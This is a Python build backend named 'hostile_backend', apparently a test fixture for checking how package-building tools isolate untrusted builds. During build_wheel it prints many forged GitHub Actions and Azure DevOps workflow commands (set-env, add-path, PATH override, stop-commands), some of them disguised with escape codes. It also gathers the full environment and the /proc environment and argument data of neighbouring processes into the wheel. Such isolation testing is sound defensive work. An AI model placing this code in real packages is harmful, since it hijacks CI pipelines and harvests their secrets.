"""A build backend that tries to give the host commands and to read other processes; its wheel tells what it found."""

import json
import os
import sys
import zipfile
from pathlib import Path

NAME, VERSION = "hostile_backend", "1.2.3"
RUNNERS = {"act", "Runner.Worker"}
COMMANDS = (
    "::set-output name=result::stolen",
    "  ::set-output name=sha256::stolen",
    "::error file=backend.py,line=1::not ours",
    "::warning::not ours",
    "::add-path::/stolen",
    "::set-env name=STOLEN::yes",
    "##[set-env name=STOLEN;]yes",
    "words ##[error]not ours",
    "##vso[task.setvariable variable=PATH]/stolen",
    "words ##VSO[task.complete result=Succeeded;]stolen",
    "::add-matcher::matcher.json",
    "progress 10%\r::error::after a carriage return\rprogress 20%",
    "\x1b[1m::error::in colour",
    "::\x1b[0merror::in colour",
    "\u2003::error::after a wide blank",
    "::group::never closed",
    "::stop-commands::halt",
)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for stream in (sys.stdout, sys.stderr):
        for command in COMMANDS:
            stream.buffer.write(f"{command}\n".encode())
        stream.flush()
    os.write(1, b"no line feed, invalid bytes \xff\xfe ::error::x")
    evidence = {
        "environ": dict(os.environ),
        "processes": [describe(process) for process in own_processes()],
        "runner": name_of(parent_of(ancestors()[-1])),
    }
    return write_wheel(Path(wheel_directory), json.dumps(evidence))


def ancestors():
    """Of this process, itself first, up to but without the runner."""
    found = [os.getpid()]
    while parent_of(found[-1]) > 1 and name_of(parent_of(found[-1])) not in RUNNERS:
        found.append(parent_of(found[-1]))
    return found


def own_processes():
    """All processes below the runner's child that leads to this one."""
    known = set(ancestors())
    entries = os.listdir("/proc") if os.path.isdir("/proc") else []
    others = {int(entry) for entry in entries if entry.isdigit() and read(entry, "cmdline")} - known
    while more := {process for process in others if parent_of(process) in known}:
        known |= more
        others -= more
    return sorted(known)


def describe(process):
    return {
        "process": process,
        "arguments": read(process, "cmdline").split("\0"),
        "environ": read(process, "environ").split("\0"),
        "input": os.path.realpath(f"/proc/{process}/fd/0"),
    }


def parent_of(process):
    status = read(process, "stat").rpartition(")")[2].split()
    return int(status[1]) if status else 0


def name_of(process):
    return read(process, "comm").strip()


def read(process, name):
    try:
        return Path("/proc", str(process), name).read_text(errors="replace")
    except OSError:
        return ""


def write_wheel(directory, evidence):
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    information = f"{NAME}-{VERSION}.dist-info"
    with zipfile.ZipFile(directory / name, "w") as wheel:
        for member, text in {
            f"{NAME}.json": evidence,
            f"{information}/METADATA": f"Metadata-Version: 2.1\nName: hostile-backend\nVersion: {VERSION}\n",
            f"{information}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            f"{information}/RECORD": "",
        }.items():
            wheel.writestr(zipfile.ZipInfo(member), text)
    return name
